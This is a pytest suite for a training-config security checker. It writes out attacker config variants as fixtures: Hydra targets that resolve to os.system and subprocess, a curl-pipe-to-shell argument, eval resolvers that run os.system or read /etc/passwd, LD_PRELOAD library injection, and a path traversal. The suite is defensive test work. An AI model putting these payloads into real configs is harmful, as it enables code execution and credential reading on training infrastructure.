"""Config semantics and config noise of issue #16, on real git repositories.

Each class of the issue has attacker variants (they must block, or need the
security group) written the way training repositories write configs (Hydra
recipes, torchtune ``_component_``, Kubernetes jobs, SLURM launchers), and
look-alike benign variants that must stay quiet.
"""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest

from traingate.checks.config.interpolation import resolve_interpolations
from traingate.checks.config.parse import parse_config
from traingate.checks.config.parse_json import strip_jsonc
from traingate.cli import main

from .conftest import Repo

POLICY = """\
version: 1
extends: builtin:default
groups:
  security: [sam]
  ml-reviewers: [alice, bob]
checks:
  semgrep: {enabled: false}
config_rules:
  - name: runs
    paths: ["configs/"]
    approval_keys: ["optimizer.**", "**.seed"]
    approval_group: ml-reviewers
    path_allow: [/datasets/, "s3://lab-data/", "${hydra:runtime.output_dir}"]
"""

BASE = """\
defaults:
  - _self_
paths:
  root: /datasets/imagenet
  ckpt: /datasets/ckpt
data:
  data_dir: ${paths.root}/train
  train_file: ${paths.root}/train.jsonl
trainer:
  ckpt_path: ${paths.ckpt}/last.ckpt
  output_dir: ${hydra:runtime.output_dir}
launcher:
  fn: mylab.launch.run
hooks:
  on_start:
    _target_: ${launcher.fn}
model:
  _target_: mylab.models.Transformer
  n_layers: 12
optimizer:
  _target_: torch.optim.AdamW
  lr: 3.0e-4
seed: 1234
"""


@pytest.fixture
def crepo(repo: Repo) -> Repo:
    repo.write(".traingate.yaml", POLICY)
    repo.write("configs/train.yaml", BASE)
    repo.commit("base")
    repo.branch("feature")
    return repo


def run(repo: Repo, capsys: pytest.CaptureFixture[str], *extra: str) -> tuple[int, dict[str, Any]]:
    code = main(
        [
            "check",
            "--repo",
            str(repo.path),
            "--base",
            "main",
            "--head",
            "feature",
            "--format",
            "json",
            *extra,
        ]
    )
    doc = json.loads(capsys.readouterr().out)
    assert doc["errors"] == []
    return code, doc


def config_findings(doc: dict[str, Any]) -> list[tuple[str, str, int | None, str]]:
    return [
        (f["rule_id"], f["path"], f["line"], f["outcome"])
        for f in doc["findings"]
        if f["check"] == "config"
    ]


def rules_at(doc: dict[str, Any]) -> set[tuple[str, str, int | None]]:
    return {(r, p, ln) for r, p, ln, _ in config_findings(doc)}


def change(repo: Repo, files: dict[str, str]) -> None:
    for path, text in files.items():
        repo.write(path, text)
    repo.commit("change", who="mallory")


def on_main(repo: Repo, files: dict[str, str]) -> None:
    """Add files to the base (main) and restart the feature branch from it."""
    repo.checkout("main")
    for path, text in files.items():
        repo.write(path, text)
    repo.commit("base files")
    repo.git("checkout", "-q", "-B", "feature")


# --- class 2: targets through interpolation and attribute paths ---------------------


@pytest.mark.parametrize(
    ("snippet", "line_of_target"),
    [
        # interpolation builds the module name
        ("cb:\n  mod: os\n  hook:\n    _target_: ${cb.mod}.system\n    _args_: [id]\n", 4),
        # a relative interpolation to a sibling
        ("cb:\n  fn: subprocess.check_call\n  _target_: ${.fn}\n", 3),
        # Hydra's _locate getattr()s through a module attribute
        ("cb:\n  _target_: logging.os.system\n  _args_: ['curl x | sh']\n", 2),
        ("cb:\n  _target_: torch.serialization.load\n  f: /tmp/x.pt\n", 2),
        # torchtune recipes name components, not targets
        ("checkpointer:\n  _component_: torch.serialization._load\n", 2),
        ("checkpointer:\n  _component_: ${loader}\nloader: pickle.loads\n", 2),
        # a key built from another key
        (
            "pick: evil\nfns:\n  ok: mylab.cb.Log\n  evil: posix.system\ncb:\n  _target_: ${fns.${pick}}\n",
            6,
        ),
        # a call-by-name helper
        ("cb:\n  _target_: hydra.utils.get_method\n  path: os.system\n", 2),
    ],
)
def test_dangerous_targets_block_for_the_security_group(
    crepo: Repo, capsys: pytest.CaptureFixture[str], snippet: str, line_of_target: int
) -> None:
    change(crepo, {"configs/callbacks.yaml": snippet})
    code, doc = run(crepo, capsys)
    assert code == 1
    got = config_findings(doc)
    assert (
        "config-dangerous-target",
        "configs/callbacks.yaml",
        line_of_target,
        "require_approval",
    ) in got
    f = next(f for f in doc["findings"] if f["rule_id"] == "config-dangerous-target")
    assert f["approval_group"] == "security"


def test_target_swapped_by_editing_only_the_key_it_interpolates(
    crepo: Repo, capsys: pytest.CaptureFixture[str]
) -> None:
    # The diff touches launcher.fn (not a _target_); hooks.on_start._target_ is
    # unchanged text but now resolves to subprocess.call.
    change(crepo, {"configs/train.yaml": BASE.replace("mylab.launch.run", "subprocess.call")})
    _, doc = run(crepo, capsys)
    assert ("config-dangerous-target", "configs/train.yaml", 16) in rules_at(doc)
    msg = next(f["message"] for f in doc["findings"] if f["rule_id"] == "config-dangerous-target")
    assert "subprocess.call" in msg and "${launcher.fn}" in msg


@pytest.mark.parametrize(
    "value",
    [
        "${oc.env:CALLBACK_TARGET,mylab.callbacks.Log}",
        "${oc.env:MODULE}.Callback",
        "${my_registry:callback}",
        "${does.not.exist}",
        "${self_ref}",
    ],
)
def test_targets_decided_at_run_time_are_untrusted(
    crepo: Repo, capsys: pytest.CaptureFixture[str], value: str
) -> None:
    change(crepo, {"configs/cb.yaml": f"self_ref: ${{self_ref}}\ncb:\n  _target_: {value}\n"})
    code, doc = run(crepo, capsys)
    assert code == 1
    assert ("config-untrusted-target", "configs/cb.yaml", 3) in rules_at(doc)


def test_dangerous_target_is_never_lowered_to_ml_reviewers(
    repo: Repo, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    # A rule asks ml-reviewers about *every* key; the target still needs security.
    repo.write(
        ".traingate.yaml",
        POLICY.replace('approval_keys: ["optimizer.**", "**.seed"]', 'approval_keys: ["**"]'),
    )
    repo.write("configs/train.yaml", BASE)
    repo.commit("base")
    repo.branch("feature")
    change(repo, {"configs/train.yaml": BASE.replace("mylab.launch.run", "os.system")})
    head = repo.git("rev-parse", "feature").strip()

    def with_reviews(*users: str) -> tuple[int, dict[str, Any]]:
        f = tmp_path / "approvals.json"
        reviews = [
            {"user": u, "state": "approved", "commit": head, "submitted_at": "2026-11-20T10:00:00Z"}
            for u in users
        ]
        f.write_text(json.dumps({"author": "mallory", "reviews": reviews}))
        return run(repo, capsys, "--approvals", str(f))

    code, doc = with_reviews("bob")
    assert code == 1
    unmet = [r["name"] for r in doc["requirements"] if not r["satisfied"]]
    assert unmet == ["findings:security"]
    code, _ = with_reviews("bob", "sam")
    assert code == 0


@pytest.mark.parametrize(
    "snippet",
    [
        "model:\n  _target_: ${model_cls}\nmodel_cls: mylab.models.Transformer\n",
        "optim:\n  _target_: torch.optim.AdamW\n  lr: ${eval:'${base_lr} * ${world_size}'}\nbase_lr: 1.0e-4\nworld_size: 8\n",
        "model:\n  _component_: torchtune.models.llama3_2.llama3_2_1b\ntokenizer:\n  _component_: torchtune.models.llama3.llama3_tokenizer\n  path: /datasets/tok.model\n",
        "loss:\n  _target_: torch.nn.CrossEntropyLoss\n  ignore_index: -100\ncleanup:\n  _target_: mylab.os_utils.TempDirCleaner\n",
        "run_name: ${oc.env:USER}-${now:%Y-%m-%d}\nsteps: ${eval:'max(1, ${epochs} // 2)'}\nepochs: 10\n",
        "transforms:\n  _target_: torchvision.transforms.Compose\n  transforms:\n    - _target_: torchvision.transforms.ToTensor\n",
    ],
)
def test_benign_look_alikes_pass(
    crepo: Repo, capsys: pytest.CaptureFixture[str], snippet: str
) -> None:
    change(crepo, {"configs/recipe_part.yaml": snippet})
    _, doc = run(crepo, capsys)
    assert [r for r in config_findings(doc) if r[0] != "config-key-change"] == []


# --- class 2: resolvers that run code -------------------------------------------------


def test_eval_resolver_with_code_blocks_arithmetic_passes(
    crepo: Repo, capsys: pytest.CaptureFixture[str]
) -> None:
    change(
        crepo,
        {
            "configs/sched.yaml": (
                "warmup: ${eval:'${steps} // 10'}\n"
                "steps: 1000\n"
                'hack: ${eval:\'__import__("os").system("id")\'}\n'
                "other: ${python:open('/etc/passwd').read()}\n"
                "anything: ${my_res:'os.system(1)'}\n"
            )
        },
    )
    got = rules_at(doc=run(crepo, capsys)[1])
    assert {r for r in got if r[0] == "config-resolver-code"} == {
        ("config-resolver-code", "configs/sched.yaml", 3),
        ("config-resolver-code", "configs/sched.yaml", 4),
        ("config-resolver-code", "configs/sched.yaml", 5),
    }


def test_project_resolver_registered_with_eval_is_code(
    crepo: Repo, capsys: pytest.CaptureFixture[str]
) -> None:
    change(
        crepo,
        {
            "mylab/resolvers.py": (
                "from omegaconf import OmegaConf\n\n"
                'OmegaConf.register_new_resolver("calc", lambda expr: eval(expr))\n'
                'OmegaConf.register_new_resolver("upper", lambda s: s.upper())\n'
            ),
            "configs/sched.yaml": (
                "a: ${calc:'2 * 8'}\nb: ${calc:'sum(range(10))'}\nc: ${upper:'sum(range(10))'}\n"
            ),
        },
    )
    got = {r for r in rules_at(run(crepo, capsys)[1]) if r[0] == "config-resolver-code"}
    assert got == {("config-resolver-code", "configs/sched.yaml", 2)}


# --- class 2: environment from configs ------------------------------------------------

K8S = """\
apiVersion: batch/v1
kind: Job
metadata:
  name: pretrain
spec:
  template:
    spec:
      containers:
        - name: trainer
          image: registry.lab/trainer:1.4
          env:
            - name: PYTHONPATH
              value: /app/src
            - name: NCCL_DEBUG
              value: INFO
            - name: OMP_NUM_THREADS
              value: "8"
          command: ["torchrun", "--nproc_per_node=8", "train.py"]
"""


def test_environment_set_from_configs_and_launchers(
    crepo: Repo, capsys: pytest.CaptureFixture[str]
) -> None:
    on_main(
        crepo,
        {
            "k8s/job.yaml": K8S,
            "launch/train.slurm": "#!/bin/bash\n#SBATCH --nodes=4\nsrun python train.py\n",
        },
    )
    evil_k8s = K8S.replace(
        "            - name: OMP_NUM_THREADS\n",
        "            - name: LD_PRELOAD\n              value: /dev/shm/libnccl-net.so\n"
        "            - name: OMP_NUM_THREADS\n",
    ).replace(
        "value: INFO",
        "value: INFO\n            - name: NCCL_NET_PLUGIN\n              value: /tmp/p.so",
    )
    change(
        crepo,
        {
            "k8s/job.yaml": evil_k8s,
            "configs/hydra/job.yaml": (
                "hydra:\n  job:\n    env_set:\n      TORCH_FORCE_NO_WEIGHTS_ONLY_LOAD: '1'\n"
                "      NCCL_DEBUG: WARN\n"
            ),
            "docker-compose.yml": (
                "services:\n  trainer:\n    image: trainer\n    environment:\n"
                "      - PYTHONPATH=/tmp/.cache/site\n      - WANDB_PROJECT=llm\n"
                '    command: "LD_PRELOAD=/tmp/x.so python train.py"\n'
            ),
            "launch/train.slurm": (
                "#!/bin/bash\n#SBATCH --nodes=4\n#SBATCH --export=ALL,LD_PRELOAD=/dev/shm/x.so\n"
                "srun python train.py\n"
            ),
        },
    )
    got = {(p, ln) for r, p, ln in rules_at(run(crepo, capsys)[1]) if r == "config-risky-env"}
    assert got == {
        ("k8s/job.yaml", 17),
        ("k8s/job.yaml", 19),
        ("configs/hydra/job.yaml", 4),
        ("docker-compose.yml", 5),
        ("docker-compose.yml", 7),
        ("launch/train.slurm", 3),
    }


def test_benign_environment_passes(crepo: Repo, capsys: pytest.CaptureFixture[str]) -> None:
    change(
        crepo,
        {
            "k8s/job.yaml": K8S,
            "configs/hydra/job.yaml": "hydra:\n  job:\n    env_set:\n      NCCL_DEBUG: INFO\n      TOKENIZERS_PARALLELISM: 'false'\n",
            # A rule pattern that mentions the variable sets nothing.
            "lint/rules/weights-only.yaml": (
                "rules:\n  - id: weights-only-bypass\n"
                '    pattern: os.environ["TORCH_FORCE_NO_WEIGHTS_ONLY_LOAD"] = "1"\n'
                "    message: do not set LD_PRELOAD or PYTHONSTARTUP from code\n"
            ),
        },
    )
    assert config_findings(run(crepo, capsys)[1]) == []


# --- class 2: data and checkpoint paths ------------------------------------------------


def test_paths_swapped_outside_the_allow_list_through_interpolation(
    crepo: Repo, capsys: pytest.CaptureFixture[str]
) -> None:
    cfg = BASE.replace("root: /datasets/imagenet", "root: /tmp/imagenet").replace(
        "${paths.ckpt}/last.ckpt", "${oc.env:RESUME_FROM}"
    )
    change(crepo, {"configs/train.yaml": cfg})
    got = {
        (r, ln) for r, p, ln in rules_at(run(crepo, capsys)[1]) if r == "config-path-not-allowed"
    }
    # data_dir and train_file through ${paths.root}; ckpt_path from the environment.
    assert got == {
        ("config-path-not-allowed", 7),
        ("config-path-not-allowed", 8),
        ("config-path-not-allowed", 10),
    }


def test_paths_inside_the_allow_list_pass(crepo: Repo, capsys: pytest.CaptureFixture[str]) -> None:
    cfg = BASE.replace("root: /datasets/imagenet", "root: /datasets/imagenet-21k").replace(
        "/last.ckpt", "/epoch_10.ckpt"
    )
    change(crepo, {"configs/train.yaml": cfg + "extra:\n  cache_dir: s3://lab-data/cache\n"})
    got = config_findings(run(crepo, capsys)[1])
    # The default policy's training-hyperparameters rule asks ml-reviewers about
    # data.** keys: both data paths moved (through ${paths.root}), so it does.
    assert got == [
        ("config-key-change", "configs/train.yaml", 7, "require_approval"),
        ("config-key-change", "configs/train.yaml", 8, "require_approval"),
    ]


def test_dotdot_does_not_escape_the_allow_list(
    crepo: Repo, capsys: pytest.CaptureFixture[str]
) -> None:
    change(crepo, {"configs/train.yaml": BASE.replace("/datasets/imagenet", "/datasets/../etc")})
    assert ("config-path-not-allowed", "configs/train.yaml", 7) in rules_at(run(crepo, capsys)[1])


# --- class 3: JSON with comments, added files, whole-file scans ----------------------

DEVCONTAINER = """\
// For format details, see https://aka.ms/devcontainer.json.
{
  "name": "trainer // dev",
  "image": "mcr.microsoft.com/devcontainers/python:3.11",
  /* features: CUDA toolkit
     and git-lfs */
  "features": {
    "ghcr.io/devcontainers/features/git-lfs:1": {},
  },
  "postCreateCommand": "pip install -e .", // editable install
}
"""


def test_json_with_comments_parses_where_its_readers_accept_comments(
    crepo: Repo, capsys: pytest.CaptureFixture[str]
) -> None:
    change(
        crepo,
        {
            ".devcontainer/devcontainer.json": DEVCONTAINER,
            ".vscode/settings.json": '{\n  // format on save\n  "editor.formatOnSave": true,\n}\n',
            "tsconfig.json": '{\n  "compilerOptions": {"strict": true /* always */},\n}\n',
        },
    )
    assert config_findings(run(crepo, capsys)[1]) == []


def test_jsonc_still_fails_closed_and_strict_json_stays_strict(
    crepo: Repo, capsys: pytest.CaptureFixture[str]
) -> None:
    change(
        crepo,
        {
            ".devcontainer/devcontainer.json": '{\n  "name": "x" /* never closed\n}\n',
            # json.loads reads a model config: a comment there is an error.
            "configs/model/config.json": '{\n  // hidden\n  "hidden_size": 8\n}\n',
        },
    )
    code, doc = run(crepo, capsys)
    assert code == 1
    got = rules_at(doc)
    assert ("config-parse-error", ".devcontainer/devcontainer.json", 2) in got
    assert ("config-parse-error", "configs/model/config.json", 2) in got


def test_strip_jsonc_keeps_positions() -> None:
    text = '{"a": "//x", /* c\n */ "b": [1, 2,],\n}'
    stripped = strip_jsonc(text)
    assert len(stripped) == len(text) and stripped.count("\n") == text.count("\n")
    doc = parse_config("jsonc", text)
    assert doc.leaves[("a",)].value == "//x"
    assert (doc.leaves[("b", 1)].line, doc.leaves[("b", 1)].column) == (2, 14)


RECIPE = """\
model:
  _component_: torchtune.models.llama3_2.llama3_2_1b
optimizer:
  _component_: torch.optim.AdamW
  lr: 2.0e-5
  weight_decay: 0.01
  fused: true
seed: 42
epochs: 1
"""


def test_added_recipe_is_one_summary_finding(
    crepo: Repo, capsys: pytest.CaptureFixture[str]
) -> None:
    change(crepo, {"configs/recipes/llama3_2_1b_full.yaml": RECIPE})
    got = config_findings(run(crepo, capsys)[1])
    assert got == [
        ("config-key-change", "configs/recipes/llama3_2_1b_full.yaml", 4, "require_approval")
    ]


def test_modified_recipe_reports_each_changed_key(
    crepo: Repo, capsys: pytest.CaptureFixture[str]
) -> None:
    on_main(crepo, {"configs/recipes/r.yaml": RECIPE})
    change(crepo, {"configs/recipes/r.yaml": RECIPE.replace("2.0e-5", "2.0e-3").replace("42", "7")})
    got = [(r, ln) for r, _, ln, _ in config_findings(run(crepo, capsys)[1])]
    assert got == [("config-key-change", 5), ("config-key-change", 8)]


def test_value_changed_through_interpolation_needs_approval(
    crepo: Repo, capsys: pytest.CaptureFixture[str]
) -> None:
    on_main(crepo, {"configs/r.yaml": "base_lr: 1.0e-4\noptimizer:\n  lr: ${base_lr}\n"})
    change(crepo, {"configs/r.yaml": "base_lr: 1.0\noptimizer:\n  lr: ${base_lr}\n"})
    got = config_findings(run(crepo, capsys)[1])
    assert got == [("config-key-change", "configs/r.yaml", 3, "require_approval")]


def test_whole_file_scan_reports_content_not_changes(
    crepo: Repo, capsys: pytest.CaptureFixture[str]
) -> None:
    crepo.write("configs/recipes/r.yaml", RECIPE)
    crepo.write("configs/recipes/bad.yaml", "cb:\n  _target_: logging.os.system\n")
    code = main(["scan", "--format", "json", str(crepo.path / "configs")])
    doc = json.loads(capsys.readouterr().out)
    got = {(f["rule_id"], Path(f["path"]).name) for f in doc["findings"] if f["check"] == "config"}
    assert got == {("config-dangerous-target", "bad.yaml")}
    assert code == 1


# --- every new surface fails closed -----------------------------------------------------


def test_unparseable_manifest_in_a_checked_path_blocks_with_its_location(
    crepo: Repo, capsys: pytest.CaptureFixture[str]
) -> None:
    change(
        crepo,
        {
            "k8s/job.yaml": K8S.replace(
                "    spec:\n      containers:", "    spec:\n     containers: ["
            )
        },
    )
    code, doc = run(crepo, capsys)
    assert code == 1
    hits = [f for f in doc["findings"] if f["rule_id"] == "config-parse-error"]
    assert hits and hits[0]["path"] == "k8s/job.yaml" and hits[0]["line"] and hits[0]["column"]


def test_resolver_never_hangs_on_cycles_or_deep_chains() -> None:
    chain = "".join(f"k{i}: ${{k{i + 1}}}\n" for i in range(200)) + "k200: os.system\n"
    doc = parse_config("yaml", chain + "a: ${b}\nb: ${a}\n")
    resolved = resolve_interpolations(doc)
    assert resolved[("a",)].unknown and resolved[("b",)].unknown
    assert resolved[("k0",)].unknown  # too deep to follow: unknown, not trusted
    assert resolved[("k190",)].text == "os.system"
